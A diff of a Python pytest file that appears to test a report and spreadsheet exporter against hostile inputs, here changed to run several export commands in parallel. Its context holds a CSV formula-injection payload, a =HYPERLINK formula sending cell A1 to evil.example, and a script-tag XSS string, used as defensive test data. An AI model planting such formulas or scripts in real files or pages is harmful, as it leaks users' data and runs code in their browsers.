@@ -11,12 +11,13 @@ from __future__ import annotations
 
 import csv
 import re
+from concurrent.futures import ThreadPoolExecutor
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
-from conftest import Case, World, cases
+from conftest import PARALLEL, Case, World, cases
 
 FORMULAS = {  # model key → a name a spreadsheet would run as a formula (OWASP's examples)
     "tenants.dap2.name": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
@@ -46,12 +47,13 @@ def hostile(tmp_path_factory) -> World:
     w.mutate(w.scenario("carbon-price"), "title_vi", "<script>alert(6)</script>")
     result = w.out / "carbon-price"
     w.terminal = w.run("run", w.scenario("carbon-price"), "--out", w.out).ran().out
-    for lang in ("en", "vi"):
-        w.run("report", result, "--format", "both", "--lang", lang).ran()
-    w.run("export-xlsx", result, "--out", w.out / "results.xlsx").ran()
-    for ext in ("csv", "xlsx"):
-        w.run("template-actuals", w.model, "--year", "2024", "--out",
-              w.out / f"actuals.{ext}").ran()
+    readers = [("report", result, "--format", "both", "--lang", lang) for lang in ("en", "vi")]
+    readers += [("export-xlsx", result, "--out", w.out / "results.xlsx")]
+    readers += [("template-actuals", w.model, "--year", "2024", "--out", w.out / f"actuals.{ext}")
+                for ext in ("csv", "xlsx")]
+    with ThreadPoolExecutor(PARALLEL) as pool:  # each writes its own files inside --out
+        for outcome in pool.map(lambda args: w.run(*args), readers):
+            outcome.ran()
     return w
 
 
